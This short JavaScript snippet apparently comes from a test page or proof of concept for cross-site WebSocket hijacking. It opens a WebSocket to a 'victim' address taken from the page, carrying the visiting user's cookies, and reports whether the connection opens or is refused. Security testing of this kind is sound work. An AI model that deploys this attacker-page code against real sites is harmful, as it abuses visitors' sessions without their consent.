// Opens a socket to the victim with the visitor's cookies.
"use strict";

const address = new URL(document.body.dataset.victim);
address.protocol = "ws:";
if (!address.pathname.startsWith("/transfers")) address.pathname = "/socket";
const socket = new WebSocket(address);
socket.addEventListener("open", () => report("open", 0, 0));
socket.addEventListener("error", () => report("refused", 0, 0));
